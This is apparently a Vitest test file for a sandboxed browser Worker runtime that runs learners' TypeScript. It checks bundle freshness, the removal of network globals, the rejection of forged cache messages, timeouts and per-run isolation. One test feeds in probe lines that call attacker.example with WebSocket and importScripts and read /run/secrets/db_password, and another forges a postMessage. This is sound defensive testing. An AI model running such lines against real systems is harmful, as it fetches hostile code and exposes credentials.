/**
 * The browser Worker bundle (`src/runtime/generated/worker-source.ts`): it must match the sources, and
 * it must run a program. Here it runs in a Node worker thread behind a tiny stand-in for the
 * DedicatedWorkerGlobalScope; the real iframe + Worker path is covered by Playwright.
 */
import { readFile } from 'node:fs/promises';
import { expect, test } from 'vitest';
import { transpile } from '../../src/runtime/core/transpile.ts';
import { CompiledCode, createPaymentsApi, PAYMENTS_API_HOST, SimulatedNetwork, WorkerRuntime, type HostToWorker, type OutputChunk, type RunRequest } from '../../src/runtime/index.ts';
import {
  bundleLeakScanWorker,
  LEAK_SCAN_WORKER_FILE,
  bundleTranspiler,
  bundleWorker,
  GENERATED_FILE,
  renderGeneratedModule,
  renderTranspilerModule,
  TRANSPILER_GENERATED_FILE,
} from '../../src/runtime/tools/build-worker-source.ts';
import { bundleServer, spawnBrowserWorker } from './browser-worker-harness.ts';

test('the generated worker source is up to date (else run: node src/runtime/tools/build-worker-source.ts)', async () => {
  const fresh = renderGeneratedModule(await bundleWorker());
  expect((await readFile(GENERATED_FILE, 'utf8')) === fresh).toBe(true);
}, 60_000);

test('the generated transpiler bundle is up to date (else run: npm run build:worker)', async () => {
  const fresh = renderTranspilerModule(await bundleTranspiler());
  expect((await readFile(TRANSPILER_GENERATED_FILE, 'utf8')) === fresh).toBe(true);
}, 60_000);

test('the generated leak-scan worker is up to date (else run: npm run build:worker)', async () => {
  const fresh = await bundleLeakScanWorker();
  expect((await readFile(LEAK_SCAN_WORKER_FILE, 'utf8')) === fresh).toBe(true);
}, 60_000);

test('the bundle runs a program, removes network globals and serves fetch from the simulated network', async () => {
  const payments = createPaymentsApi();
  const runtime = new WorkerRuntime({
    name: 'bundle',
    spawn: () => spawnBrowserWorker(),
    network: new SimulatedNetwork({ [PAYMENTS_API_HOST]: payments.handler }),
    keepSpare: false,
    loadBundle: bundleServer(),
  });
  const chunks: OutputChunk[] = [];
  const result = await runtime.run(
    {
      files: {
        'index.ts': [
          "import { readFileSync } from 'node:fs';",
          "console.log(typeof XMLHttpRequest, typeof importScripts, typeof WebSocket, typeof globalThis.fetch);",
          "try { new WebSocket('wss://attacker.example'); } catch (e) { console.log(e.message); }",
          "try { importScripts('https://attacker.example/x.js'); } catch (e) { console.log(e.message); }",
          "const xhr = new XMLHttpRequest(); xhr.open('GET', 'https://api.payments.example/v1/charges');",
          "await new Promise((done) => { xhr.onload = done; xhr.send(); });",
          "console.log('xhr', xhr.status);",
          "console.log(readFileSync('/run/secrets/db_password', 'utf8'));",
          "const response = await fetch('https://api.payments.example/v1/charges');",
          'console.log(response.status, (await response.json()).error.type);',
          "const value: number = 1;\nnull!.boom;",
        ].join('\n'),
        '/run/secrets/db_password': 'P@ssw0rd-demo-only',
      },
      entry: 'index.ts',
      env: {},
    },
    { onOutput: (chunk) => chunks.push(chunk) },
  );
  const text = (stream: string) => chunks.filter((chunk) => chunk.stream === stream).map((chunk) => chunk.text).join('');
  expect(text('stdout')).toBe(
    [
      'function function function function',
      "WebSocket is not available in the sandbox: programs here reach only the course's simulated services, over HTTP with fetch (or a client built on it)",
      'importScripts() is not available in the sandbox: a Node program loads code with import or require',
      'xhr 405',
      'P@ssw0rd-demo-only',
      '405 invalid_request_error',
      '',
    ].join('\n'),
  );
  expect(text('stderr')).toContain("Uncaught TypeError: Cannot read properties of null (reading 'boom')\n    at /app/index.ts:12:6");
  expect(result).toMatchObject({ status: 'error', exitCode: 1 });
  expect(payments.requests.map((request) => request.method)).toEqual(['GET', 'GET']);
  runtime.dispose();
}, 30_000);

/** A runtime over the browser bundle that records what each worker was sent and which bundles it asked for. */
function recordingRuntime(compiledCode: CompiledCode, bundleDelayMs = 0) {
  const sent: HostToWorker[][] = [];
  const requested: string[] = [];
  const runtime = new WorkerRuntime({
    name: 'bundle',
    spawn: () => spawnBrowserWorker(sent[sent.push([]) - 1]),
    network: new SimulatedNetwork(),
    loadBundle: async (name) => {
      await new Promise((resolve) => setTimeout(resolve, bundleDelayMs));
      return bundleServer(requested)(name);
    },
    compiledCode,
  });
  const run = async (request: RunRequest) => {
    const chunks: OutputChunk[] = [];
    const result = await runtime.run(request, { onOutput: (chunk) => chunks.push(chunk) });
    return { result, output: chunks.map((chunk) => chunk.text).join('') };
  };
  return { runtime, run, sent, requested };
}

const MAIN = "import { greet } from './greet.ts';\nconst name: string = 'class';\nconsole.log(greet(name));\n";
const GREET = 'export const greet = (who: string): string => `hello, ${who}`;\n';

test('files as the page compiled them run without the transpiler; an edited file loads it, and its syntax error keeps its position', async () => {
  const compiled = new CompiledCode();
  for (const [name, source] of [['main.ts', MAIN], ['greet.ts', GREET]] as const) {
    const result = transpile(`/app/${name}`, source);
    if (result.ok) compiled.add(`/app/${name}`, source, result.code);
  }
  const { runtime, run, sent, requested } = recordingRuntime(compiled);

  const asShown = await run({ files: { 'main.ts': MAIN, 'greet.ts': GREET }, entry: 'main.ts', env: {} });
  expect(asShown.output).toBe('hello, class\n');
  expect(requested).toEqual([]);
  const firstRun = sent[0]!.find((message) => message.type === 'run');
  expect(firstRun?.type === 'run' && Object.keys(firstRun.compiled ?? {}).sort()).toEqual(['/app/greet.ts', '/app/main.ts']);

  const edited = await run({ files: { 'main.ts': MAIN, 'greet.ts': GREET.replace('hello', 'hi') }, entry: 'main.ts', env: {} });
  expect(edited.output).toBe('hi, class\n');
  expect(requested).toEqual(['transpiler']);

  const broken = await run({ files: { 'main.ts': MAIN.replace("const name: string = 'class';", "const name: string = 'class;"), 'greet.ts': GREET }, entry: 'main.ts', env: {} });
  expect(broken.result.status).toBe('error');
  expect(broken.output).toContain('/app/main.ts:2');
  runtime.dispose();
}, 30_000);

test('code a worker compiled is reused for the same text, and later workers get the transpiler before their run', async () => {
  const compiled = new CompiledCode();
  const { runtime, run, sent, requested } = recordingRuntime(compiled);
  const files = { 'main.ts': MAIN, 'greet.ts': GREET };

  expect((await run({ files, entry: 'main.ts', env: {} })).output).toBe('hello, class\n');
  expect(requested).toEqual(['transpiler']);
  expect(Object.keys(compiled.lookup(files)).sort()).toEqual(['/app/greet.ts', '/app/main.ts']);

  // The same text again: its code comes with the run.
  expect((await run({ files, entry: 'main.ts', env: {} })).output).toBe('hello, class\n');
  const second = sent[1]!.find((message) => message.type === 'run');
  expect(second?.type === 'run' && Object.keys(second.compiled ?? {}).length).toBe(2);
  // The spare started after the first run was sent the transpiler unasked, before its run.
  const kinds = sent[1]!.map((message) => (message.type === 'bundle' ? `bundle:${message.name}` : message.type));
  expect(kinds.indexOf('bundle:transpiler')).toBeGreaterThanOrEqual(0);
  expect(kinds.indexOf('bundle:transpiler')).toBeLessThan(kinds.indexOf('run'));
  expect(requested).toEqual(['transpiler']);

  // Learner code cannot hand the host code for a text it was not given: its own postMessage is not
  // the runtime's channel, and the run fails saying so.
  const forged = await run({
    files: { 'main.ts': "self.postMessage({ type: 'compiled', files: { '/app/x.ts': { source: 'a', code: 'b' } } });\n" },
    entry: 'main.ts',
    env: {},
  });
  expect(forged.result.status).toBe('error');
  expect(forged.output).toContain('the program posted a message to the page itself');
  expect(compiled.lookup({ '/app/x.ts': 'a' })).toEqual({});
  runtime.dispose();
}, 30_000);

test('two names for one file: the file the program sees is the one that runs, whatever code the cache had', async () => {
  const compiled = new CompiledCode();
  const original = 'console.log("original");\n';
  const edited = 'console.log("edited");\n';
  const result = transpile('/app/main.ts', original);
  if (result.ok) compiled.add('/app/main.ts', original, result.code, true);
  const { runtime, run } = recordingRuntime(compiled);
  // `main.ts` (the cached, original text) and `/app/main.ts` (the edit) name one file; the file system keeps the last.
  const { output } = await run({ files: { 'main.ts': original, '/app/main.ts': edited }, entry: 'main.ts', env: {} });
  expect(output).toBe('edited\n');
  runtime.dispose();
}, 30_000);

test('the time a bundle takes to arrive does not count against the program', async () => {
  // The bundle takes twice the program's limit to arrive; the limit itself is generous enough that
  // compiling and running one line fits in it on a loaded machine (at 300 ms it did not, at load 14).
  const { runtime, run, requested } = recordingRuntime(new CompiledCode(), 4000);
  const { result, output } = await run({ files: { 'main.ts': 'const n: number = 1;\nconsole.log("ran", n);\n' }, entry: 'main.ts', env: {}, timeoutMs: 2000 });
  expect(requested).toEqual(['transpiler']);
  expect(output).toBe('ran 1\n');
  expect(result.status).toBe('ok');
  // The pause is the bundle's, not the program's: a loop still meets its deadline.
  const loop = await run({ files: { 'main.ts': 'while (true) {}\n' }, entry: 'main.ts', env: {}, timeoutMs: 2000 });
  expect(loop.result.status).toBe('timeout');
  runtime.dispose();
}, 30_000);

test('each run starts fresh: nothing the last program (or the worker\'s own warm-up) left in globals, files or env reaches the next', async () => {
  const { runtime, run } = recordingRuntime(new CompiledCode());
  const probe = [
    "import { existsSync, writeFileSync } from 'node:fs';",
    "const g = globalThis as { leftOver?: number };",
    "console.log(g.leftOver ?? 'none', existsSync('/tmp/left.txt'), existsSync('/tmp/w.txt'), process.env.W ?? 'unset');",
    "g.leftOver = 1;",
    "writeFileSync('/tmp/left.txt', 'x');",
  ].join('\n');
  const files = { 'main.ts': probe };
  expect((await run({ files, entry: 'main.ts', env: {} })).output).toBe('none false false unset\n');
  // The second run's worker is the spare, warmed up while the first ran its course: still a blank slate.
  expect((await run({ files, entry: 'main.ts', env: {} })).output).toBe('none false false unset\n');
  runtime.dispose();
}, 30_000);
